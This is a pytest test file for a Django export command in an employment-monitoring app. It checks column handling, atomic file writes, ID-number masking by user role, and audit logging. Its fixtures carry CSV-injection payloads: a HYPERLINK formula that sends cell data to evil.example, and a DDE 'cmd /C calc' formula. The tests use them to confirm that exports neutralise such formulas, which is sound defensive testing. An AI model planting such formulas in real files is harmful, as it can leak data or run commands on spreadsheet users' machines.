"""``wenjiuye export``: declared columns whatever the rows hold, uploaded formulas come out as text,
never a partial file, and ID numbers masked for users who may not see them."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from tests.factories import OTHER_COUNTY, OWN_COUNTY, make_id
from wenjiuye.core.identifiers import mask_id
from wenjiuye.core.models import Event
from wenjiuye.core.roles import Role
from wenjiuye.intake.services import ingest_file
from wenjiuye.monitoring import exports
from wenjiuye.monitoring.exports import COLUMNS
from wenjiuye.monitoring.ledger import ledger_add
from wenjiuye.monitoring.services import monitor_run

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

#: Values as an uploaded file can carry them (OWASP CSV injection).
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
EVIL_POINT = "=1+2"
EVIL_OTHER = "-1+2"
OWN_PERSON = make_id(OWN_COUNTY, "19850101", 1)
OTHER_PERSON = make_id(OTHER_COUNTY, "19900101", 2)


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


@pytest.fixture
def city(layoff, tmp_path):
    """The layoff city, plus uploaded registrations (names with formulas) and a monitoring
    point report whose point ID is a formula; then a monitoring run (202203)."""
    ingest_file(
        path=write_csv(
            tmp_path / "registrations.csv",
            ["person_id", "name", "region_code", "registered_on", "phone"],
            [
                [OWN_PERSON, EVIL_NAME, OWN_COUNTY, "2022-03-01", "13912345678"],
                [OTHER_PERSON, EVIL_OTHER, OTHER_COUNTY, "2022-03-02", "13812345678"],
            ],
        )
    )
    ingest_file(
        path=write_csv(
            tmp_path / "points.csv",
            ["point_id", "region_code", "period", "outbound", "returned", "returned_unemployed"],
            [[EVIL_POINT, OWN_COUNTY, "202203", "400", "40", "12"]],
        )
    )
    monitor_run()
    return layoff


def export(tmp_path: Path, what: str, fmt: str, *args: str) -> tuple[Path, dict]:
    out = tmp_path / "exports" / f"{what}.{fmt}"
    stdout = StringIO()
    call_command("export", what, "--format", fmt, "--out", str(out), "--json", *args, stdout=stdout)
    return out, json.loads(stdout.getvalue())


def entries(tmp_path: Path, what: str, *args: str) -> list[dict]:
    return export(tmp_path, what, "json", *args)[1]["entries"]


def read_back(path: Path, fmt: str) -> tuple[list[str], list[dict]]:
    """The header and the rows keyed by header, as a spreadsheet user reads them."""
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            header, *rows = list(csv.reader(fh))
    else:
        ws = openpyxl.load_workbook(path).active
        header, *rows = [
            ["" if v is None else v for v in r] for r in ws.iter_rows(values_only=True)
        ]
    return header, [dict(zip(header, r, strict=True)) for r in rows]


def headers(what: str) -> list[str]:
    return [str(c.header) for c in COLUMNS[what]]


def test_key_groups_of_persons_and_points_export_every_column(city, tmp_path):
    assert {tuple(sorted(e)) for e in entries(tmp_path, "key-groups")} == {
        tuple(sorted(k for k in (c.key for c in COLUMNS["key-groups"]) if k != key))
        for key in ("person_id", "point_id")
    }  # the rows differ in their keys (the crash was "fields not in fieldnames: 'point_id'")
    for fmt in ("csv", "xlsx"):
        check_key_groups(*read_back(export(tmp_path, "key-groups", fmt)[0], fmt))


def check_key_groups(header: list[str], rows: list[dict]) -> None:
    assert header == headers("key-groups")
    assert header[:2] == ["公民身份号码", "监测点编号"]
    by_person = {r["公民身份号码"]: r for r in rows if r["公民身份号码"]}
    assert set(by_person) == {OWN_PERSON, OTHER_PERSON}
    assert (
        by_person[OWN_PERSON]["监测点编号"] == ""
        and by_person[OWN_PERSON]["群体类别"] == "失业人员"
    )
    (point,) = [r for r in rows if r["监测点编号"]]
    assert point["公民身份号码"] == "" and point["群体类别"] == "返乡农民工"
    assert point["监测点编号"] == "'" + EVIL_POINT
    assert json.loads(point["依据数据"])["returned_unemployed"]["returned_unemployed"] == 12


def test_risk_ledger_of_enterprises_persons_and_points_exports_every_column(city, users, tmp_path):
    officer = users[Role.COUNTY_OFFICER]
    for subject_type, subject_id in (("person", OWN_PERSON), ("point", "JCD-410421-09")):
        ledger_add(
            actor=officer,
            ledger="risk",
            subject_type=subject_type,
            subject_id=subject_id,
            region_code=OWN_COUNTY,
            reason="走访发现",
            period="202203",
            name="@SUM(1+1)*cmd|' /C calc'!A0",
        )
    for fmt in ("csv", "xlsx"):
        header, rows = read_back(export(tmp_path, "risk-ledger", fmt)[0], fmt)
        assert header == headers("risk-ledger")
        subjects = {(r["统一社会信用代码"], r["公民身份号码"], r["监测点编号"]) for r in rows}
        assert subjects == {(city, "", ""), ("", OWN_PERSON, ""), ("", "", "JCD-410421-09")}
        manual = [r for r in rows if r["来源"] == "manual"]
        assert [r["名称"] for r in manual] == ["'@SUM(1+1)*cmd|' /C calc'!A0"] * 2


def test_uploaded_formulas_come_out_as_text_and_numbers_stay_numbers(city, tmp_path):
    names = {
        e["person_id"]: e["name"] for e in entries(tmp_path, "key-groups") if e.get("person_id")
    }
    assert names == {OWN_PERSON: EVIL_NAME, OTHER_PERSON: EVIL_OTHER}  # JSON keeps the data
    for fmt in ("csv", "xlsx"):
        out, _ = export(tmp_path, "key-groups", fmt)
        _header, rows = read_back(out, fmt)
        shown = {r["公民身份号码"]: r["姓名或名称"] for r in rows if r["公民身份号码"]}
        assert shown == {OWN_PERSON: "'" + EVIL_NAME, OTHER_PERSON: "'" + EVIL_OTHER}
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("'")]
    assert len(texts) == 3 and all(c.data_type == "s" for c in texts)
    assert not [c for c in cells if c.data_type == "f"]
    ws = openpyxl.load_workbook(export(tmp_path, "key-enterprises", "xlsx")[0]).active
    level = ws.cell(row=2, column=headers("key-enterprises").index("预警级别") + 1)
    assert (level.value, level.data_type) == (3, "n")  # a number stays a number


def test_a_failure_while_writing_leaves_the_previous_file_and_no_temporary_file(
    city, tmp_path, monkeypatch
):
    def failing(what, rows):
        rows = list(rows)
        yield [rows[0].get(c.key) for c in COLUMNS[what]]
        raise OSError(28, "No space left on device")

    def half_written(self, data, encoding=None):
        with open(self, "w", encoding=encoding) as fh:
            fh.write(data[: len(data) // 2])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "table_rows", failing)  # CSV, XLSX: after the first row
    monkeypatch.setattr(Path, "write_text", half_written)  # JSON: half the document
    folder = tmp_path / "exports"
    folder.mkdir()
    for fmt in ("json", "csv", "xlsx"):
        target = folder / f"key-groups.{fmt}"
        target.write_bytes(b"last week's export")
        with pytest.raises(CommandError) as exc:
            export(tmp_path, "key-groups", fmt)
        assert exc.value.returncode == 2 and "No space left" in str(exc.value)
        assert target.read_bytes() == b"last week's export"
    assert sorted(p.name for p in folder.iterdir()) == [
        "key-groups.csv",
        "key-groups.json",
        "key-groups.xlsx",
    ]
    assert not Event.objects.filter(action="export").exists()


def test_an_undeclared_column_is_an_error_not_a_dropped_column(city, tmp_path):
    rows = exports.export_rows(what="key-groups")
    rows[0]["phone"] = "13912345678"
    target = tmp_path / "kg.csv"
    with pytest.raises(ValueError, match="phone"):
        exports.export_write(what="key-groups", rows=rows, fmt="csv", path=target)
    assert list(tmp_path.glob("*kg.csv*")) == []


def test_every_subject_of_every_ledger_has_its_declared_column():
    from wenjiuye.monitoring.models import LedgerEntry  # noqa: PLC0415

    for what, ledger in exports.EXPORTS.items():
        if ledger is None:
            continue
        for subject_type in ("enterprise", "region", "point", "person"):
            if (what, subject_type) in {
                ("key-enterprises", "region"),
                ("key-enterprises", "point"),
                ("key-enterprises", "person"),
                ("key-regions", "enterprise"),
                ("key-regions", "point"),
                ("key-regions", "person"),
                ("key-groups", "enterprise"),
                ("key-groups", "region"),
            }:
                continue  # such entries are not made (monitoring, visits, incidents)
            entry = LedgerEntry(
                ledger=ledger,
                subject_type=subject_type,
                subject_id="x",
                region_code=OWN_COUNTY,
                first_flagged="202203",
                last_confirmed="202203",
            )
            row = exports.entry_as_dict(entry)
            assert list(exports.table_rows(what, [row])), (what, subject_type)


def test_a_user_without_view_personal_gets_masked_id_numbers(city, users, tmp_path):
    leader = users[Role.LEADER]
    out, _ = export(tmp_path, "key-groups", "csv", "--user", leader.username)
    ids = {mask_id(OWN_PERSON), mask_id(OTHER_PERSON)}
    _header, rows = read_back(out, "csv")
    assert {r["公民身份号码"] for r in rows if r["公民身份号码"]} == ids
    assert OWN_PERSON not in out.read_text(encoding="utf-8-sig")
    event = Event.objects.get(action="export")
    assert event.actor == leader and event.changes["unmasked"] is False
    assert not Event.objects.filter(action="view_unmasked").exists()
    shown = entries(tmp_path, "crossmatch", "--user", leader.username)
    assert shown and all(e["person_id"] == mask_id(e["person_id"]) for e in shown)
    shown = entries(tmp_path, "key-groups", "--user", leader.username)
    assert {e["person_id"] for e in shown if e.get("person_id")} == ids  # JSON: masked too


def test_a_county_officer_exports_their_county_in_full_and_is_audited(city, users, tmp_path):
    officer = users[Role.COUNTY_OFFICER]  # 宝丰县, may see personal data
    out, result = export(tmp_path, "key-groups", "xlsx", "--user", officer.username)
    _header, rows = read_back(out, "xlsx")
    assert {r["公民身份号码"] for r in rows if r["公民身份号码"]} == {OWN_PERSON}
    assert {r["行政区划代码"][:6] for r in rows} == {OWN_COUNTY}  # 叶县's person is not in scope
    seen = Event.objects.get(action="view_unmasked", object_type="monitoring.export")
    assert seen.actor == officer and seen.object_id == "key-groups"
    assert seen.changes == {"rows": result["rows"], "format": "xlsx"}


def test_the_operator_without_user_exports_everything_unmasked(city, tmp_path):
    ids = {e["person_id"] for e in entries(tmp_path, "key-groups") if e.get("person_id")}
    assert ids == {OWN_PERSON, OTHER_PERSON}
    event = Event.objects.get(action="export")
    assert event.actor is None and event.actor_name == "system" and event.changes["unmasked"]
    assert not Event.objects.filter(action="view_unmasked").exists()


def test_an_unknown_user_is_refused(city, tmp_path):
    with pytest.raises(CommandError) as exc:
        export(tmp_path, "key-groups", "csv", "--user", "nobody")
    assert exc.value.returncode == 2
    assert not (tmp_path / "exports").exists()
